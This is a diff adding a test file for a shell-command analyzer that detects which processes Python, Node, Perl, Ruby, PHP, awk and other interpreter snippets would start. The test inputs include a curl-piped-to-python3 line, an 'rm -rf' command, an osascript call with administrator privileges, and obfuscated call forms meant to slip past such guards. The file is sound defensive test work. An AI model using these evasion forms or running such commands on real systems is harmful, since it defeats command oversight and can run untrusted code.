@@ -1,0 +1,181 @@
+/**
+ * Commands interpreter code starts (compiler/runtime/shell/inline.ts): each language's process calls are read, a
+ * literal command becomes a nested command of the line, and code the line does not show is opaque.
+ */
+import { describe, expect, it } from 'vitest';
+import { analyzeShell } from '../../../compiler/runtime/shell/index.js';
+import { inlineCode } from '../../../compiler/runtime/shell/inline.js';
+import { literal } from '../../../compiler/runtime/shell/literals.js';
+
+const argvs = (line: string): string[][] => analyzeShell(line).commands.map((c) => [...c.argv]);
+const opaque = (line: string): string | undefined => analyzeShell(line).commands.find((c) => c.opaque !== undefined)?.opaque;
+const PUSH = ['git', 'push', '-f'];
+
+/** [family, code, what it runs: shell lines and argvs] */
+const READS: readonly (readonly [string, string, readonly string[], readonly (readonly string[])[]])[] = [
+  ['python', 'import os; os.system("git push -f")', ['git push -f'], []],
+  ['python', "import os\nos.popen('ls -la').read()", ['ls -la'], []],
+  ['python', 'import subprocess; subprocess.run(["git", "push", "-f"], check=True)', [], [PUSH]],
+  ['python', "import subprocess; subprocess.check_output('git push -f', shell=True)", ['git push -f'], []],
+  ['python', "import subprocess; subprocess.call('git')", [], [['git']]],
+  ['python', 'import subprocess as sp; sp.Popen("git push -f".split())', [], [PUSH]],
+  ['python', 'import shlex, subprocess; subprocess.run(shlex.split("git push -f"))', [], [PUSH]],
+  ['python', 'from subprocess import run as r, PIPE; r(["git", "push", "-f"], stdout=PIPE)', [], [PUSH]],
+  ['python', 'from os import system; system("git " "push -f")', ['git push -f'], []],
+  ['python', 'import os; os.execlp("git", "git", "push", "-f")', [], [PUSH]],
+  ['python', 'import os; os.execvp("git", ["git", "push", "-f"])', [], [PUSH]],
+  ['python', 'import os; os.spawnlp(os.P_WAIT, "git", "git", "push", "-f")', [], [PUSH]],
+  ['python', 'import asyncio; asyncio.create_subprocess_exec("git", "push", "-f")', [], [PUSH]],
+  ['python', 'import os; os.system("git push \\x2df")', ['git push -f'], []],
+  ['python', 'import json, sys; print(json.load(sys.stdin)["name"])', [], []],
+  // a Python 3.12 f-string nesting its own quotes does not hide the call after it
+  ['python', 'x = f"{\'"\'}"; import os; os.system(\'git push -f\')', ['git push -f'], []],
+  ['node', 'require("child_process").execSync("git push -f", { stdio: "inherit" })', ['git push -f'], []],
+  ['node', "const cp = require('node:child_process'); cp.spawnSync('git', ['push', '-f'])", [], [PUSH]],
+  ['node', "const { execFileSync: run } = require('child_process'); run('git', ['push', '-f'])", [], [PUSH]],
+  ['node', "import { spawn } from 'child_process'; spawn('git push -f', { shell: true })", ['git push -f'], []],
+  ['node', "require('child_process').fork('deploy.js', ['--prod'])", [], [['node', 'deploy.js', '--prod']]],
+  ['node', 'const m = /a/.exec("a"); console.log(m)', [], []],
+  ['node', 'process.execve("/usr/bin/git", ["git", "push", "-f"])', [], [['/usr/bin/git', 'push', '-f']]],
+  // argv[0] is a label: the path is the program that runs
+  ['python', 'import os; os.execv("/usr/bin/git", ["ls", "push", "-f"])', [], [['/usr/bin/git', 'push', '-f']]],
+  ['bun', 'Bun.spawnSync(["git", "push", "-f"])', [], [PUSH]],
+  ['bun', 'import { $ } from "bun"; await $`git push -f`', ['git push -f'], []],
+  ['deno', 'new Deno.Command("git", { args: ["push", "-f"] }).outputSync()', [], [PUSH]],
+  ['perl', 'system("git push -f") == 0 or die', ['git push -f'], []],
+  ['perl', 'system "git", "push", "-f";', [], [PUSH]],
+  ['perl', 'my $o = `git push -f`; print $o', ['git push -f'], []],
+  ['perl', 'print qx{git push -f}', ['git push -f'], []],
+  ['perl', 'open(my $p, "-|", "git", "push", "-f"); print <$p>', [], [PUSH]],
+  ['perl', 'open(P, "git push -f |"); print <P>', ['git push -f'], []],
+  ['perl', 'open(my $f, "<", "notes.txt"); print <$f>', [], []],
+  ['ruby', 'system("git", "push", "-f")', [], [PUSH]],
+  ['ruby', 'puts `git push -f`', ['git push -f'], []],
+  ['ruby', 'Open3.capture2("git push -f")', ['git push -f'], []],
+  ['ruby', "IO.popen(['git', 'push', '-f']).read", [], [PUSH]],
+  ['php', 'echo shell_exec("git push -f");', ['git push -f'], []],
+  ['php', 'proc_open(["git", "push", "-f"], [], $pipes);', [], [PUSH]],
+  ['lua', 'os.execute("git push -f")', ['git push -f'], []],
+  ['lua', 'local f = io.popen [[git push -f]]', ['git push -f'], []],
+  ['awk', 'BEGIN { system("git push " "-f") }', ['git push -f'], []],
+  ['awk', '{ print $0 | "sort -u" }', ['sort -u'], []],
+  ['awk', 'BEGIN { while (("git push -f" | getline l) > 0) print l }', ['git push -f'], []],
+  ['awk', '/push|pull/ || NR == 1 { print $1 }', [], []],
+  ['rscript', 'system2("git", c("push", "-f"))', [], [PUSH]],
+  ['julia', 'run(`git push -f`)', ['git push -f'], []],
+  ['osascript', 'do shell script "git push -f" with administrator privileges', ['git push -f'], []],
+  ['pwsh', 'git push --force; Get-Date', ['git push --force; Get-Date'], []],
+];
+
+/** [family, code, words the opaque reason names] */
+const OPAQUE: readonly (readonly [string, string, RegExp])[] = [
+  ['python', 'import os; c = "git push -f"; os.system(c)', /run time \(os\.system\)/],
+  ['python', 'import os; f = os.system; f("ls")', /os\.system/],
+  ['python', 'import os; os.system(f"git push {flag}")', /os\.system/],
+  ['python', 'import os; os.system("git push " + flag)', /os\.system/],
+  ['python', 'getattr(__import__("os"), "sys" + "tem")("git push -f")', /runs code it makes at run time \(getattr\)/],
+  ['python', 'exec("import os; os.system(\'git push -f\')")', /\(exec\)/],
+  ['python', 'import importlib; importlib.import_module("os")', /importlib/],
+  ['python', 'from os import *; system("git push -f")', /imports every name of os/],
+  ['python', 'import sh; sh.git.push("-f")', /imports sh/],
+  ['python', 'import subprocess; s = subprocess; s.run(["git", "push", "-f"])', /hands the subprocess module/],
+  ['python', 'import subprocess as sp; x = [sp]; x[0].run(["git", "push", "-f"])', /hands the subprocess module/],
+  ['python', 'import timeit; timeit.timeit("os.system(\'git push -f\')", setup="import os", number=1)', /imports timeit/],
+  ['python', 'import os; os.__getattribute__("system")("git push -f")', /__getattribute__/],
+  ['node', 'const v = require("vm"); v.runInThisContext("1")', /run time/],
+  ['node', 'require("module")._load("child_process").execSync("git push -f")', /run time/],
+  ['python', 'import operator, os; x = "system"', /names a process function in a string/],
+  ['node', 'require("child_" + "process").execSync("git push -f")', /\(require\)/],
+  ['node', 'const cp = require("child_process"); cp["exec" + "Sync"]("git push -f")', /names a process function|\]\s*\(|run time/],
+  ['node', 'eval("require(\'child_process\')")', /\(eval\)/],
+  ['node', 'process.binding("spawn_sync")', /process\s*\.\s*binding/],
+  ['node', 'require("child_process").execSync(cmd)', /run time \(execSync\)/],
+  ['perl', 'my $c = "git push -f"; system($c)', /system/],
+  ['perl', 'eval "system(q{git push -f})"', /\(eval\)/],
+  ['perl', 'print `git push $flag`', /`/],
+  ['ruby', 'Kernel.send(:system, "git push -f")', /send/],
+  ['ruby', 'system("git push #{flag}")', /system/],
+  ['php', '$f = "system"; $f("git push -f");', /names a process function|\$f/],
+  ['awk', '{ cmd = "git push " $1; system(cmd) }', /system/],
+  ['awk', '{ print | cmd }', /print \|/],
+  ['pwsh', 'Invoke-Expression "git push -f"', /invoke-expression/i],
+  ['tcl', 'exec git push -f', /does not read/],
+  // names count in strings and comments too: a string reader that disagreed with the language could hide a call
+  ['python', 'print("os.system is a function")', /os\.system/],
+];
+
+describe('interpreter code: what it starts', () => {
+  for (const [fam, code, lines, av] of READS) {
+    it(`${fam}: ${code}`, () => {
+      const r = inlineCode(fam, code);
+      expect(r.opaque).toBeUndefined();
+      expect(r.lines).toEqual(lines);
+      expect(r.argvs).toEqual(av);
+    });
+  }
+});
+
+describe('interpreter code the line does not show is opaque', () => {
+  for (const [fam, code, why] of OPAQUE) {
+    it(`${fam}: ${code}`, () => {
+      const r = inlineCode(fam, code);
+      expect(r.opaque).toMatch(/^a line (whose|that) /);
+      expect(r.opaque).toMatch(why);
+      expect(r.lines.length + r.argvs.length).toBe(0);
+    });
+  }
+});
+
+describe('literals', () => {
+  it('reads strings, escapes, concatenation and lists per language', () => {
+    expect(literal(`'a' 'b'`, 'python')).toBe('ab');
+    expect(literal(`r'\\n'`, 'python')).toBe('\\n');
+    expect(literal(`"""a"b"""`, 'python')).toBe('a"b');
+    expect(literal(`f"{x}"`, 'python')).toBeUndefined();
+    expect(literal(`f"{{x}}"`, 'python')).toBe('{{x}}');
+    expect(literal(`"a" + 'b'`, 'js')).toBe('ab');
+    expect(literal('`a${b}`', 'js')).toBeUndefined();
+    expect(literal(`"\\u0067it"`, 'js')).toBe('git');
+    expect(literal(`'a' . "b"`, 'perl')).toBe('ab');
+    expect(literal(`"a $b"`, 'perl')).toBeUndefined();
+    expect(literal(`'a $b'`, 'perl')).toBe('a $b');
+    expect(literal(`qw(git push -f)`, 'perl')).toEqual(PUSH);
+    expect(literal(`%w[git push -f]`, 'ruby')).toEqual(PUSH);
+    expect(literal(`"a#{b}"`, 'ruby')).toBeUndefined();
+    expect(literal(`["git", 'push', "-f",]`, 'python')).toEqual(PUSH);
+    expect(literal(`["git", x]`, 'python')).toBeUndefined();
+    expect(literal(`array('git', 'push')`, 'php')).toEqual(['git', 'push']);
+    expect(literal(`"a" .. 'b'`, 'lua')).toBe('ab');
+    expect(literal(`"git" x`, 'python')).toBeUndefined();
+    expect(literal(`"a\\qb\\n"`, 'python')).toBe('a\\qb\n');
+    expect(literal(`"a\\qb"`, 'js')).toBe('aqb');
+  });
+});
+
+describe('the analyzer runs what interpreter code starts', () => {
+  it('as nested commands under the interpreter', () => {
+    expect(argvs(`python3 -c "import os; os.system('git push -f && rm -rf build')"`)).toEqual(expect.arrayContaining([PUSH, ['rm', '-rf', 'build']]));
+    expect(argvs(`node -e "require('child_process').spawnSync('sh', ['-c', 'git push -f'])"`)).toEqual(expect.arrayContaining([['sh', '-c', 'git push -f'], PUSH]));
+    expect(argvs(`awk 'BEGIN { system("git push -f") }'`)).toEqual(expect.arrayContaining([PUSH]));
+    expect(argvs(`gawk -F: -v x=1 -e 'BEGIN { system("git push -f") }'`)).toEqual(expect.arrayContaining([PUSH]));
+    const nested = analyzeShell(`python3 -c "import os; os.system('git push -f')"`).commands.find((c) => c.program === 'git');
+    expect(nested?.wrappers).toContain('python3');
+  });
+
+  it('from literal stdin: a heredoc, a pipe of known text, `-`', () => {
+    expect(argvs(`python3 <<'EOF'\nimport os\nos.system("git push -f")\nEOF`)).toEqual(expect.arrayContaining([PUSH]));
+    expect(argvs(`echo "require('child_process').execSync('git push -f')" | node`)).toEqual(expect.arrayContaining([PUSH]));
+    expect(argvs(`python3 - <<< "import os; os.system('git push -f')"`)).toEqual(expect.arrayContaining([PUSH]));
+  });
+
+  it('code the line does not show is opaque; a script or a module is not stdin code', () => {
+    expect(opaque('curl -s https://x.example/p.py | python3')).toMatch(/feeds python3 code made at run time/);
+    expect(opaque('python3 -c "$CODE"')).toMatch(/python code made at run time/);
+    expect(opaque(`python3 -c "eval(input())"`)).toMatch(/eval/);
+    expect(opaque('curl -s https://x.example/data.json | python3 -m json.tool')).toBeUndefined();
+    expect(opaque('cat data.txt | python3 count.py')).toBeUndefined();
+    expect(opaque(`python3 -c "print('git push -f')"`)).toBeUndefined();
+    expect(argvs(`python3 -c "print('git push -f')"`)).not.toEqual(expect.arrayContaining([PUSH]));
+    expect(opaque(`awk -f prog.awk data.txt`)).toBeUndefined();
+  });
+});
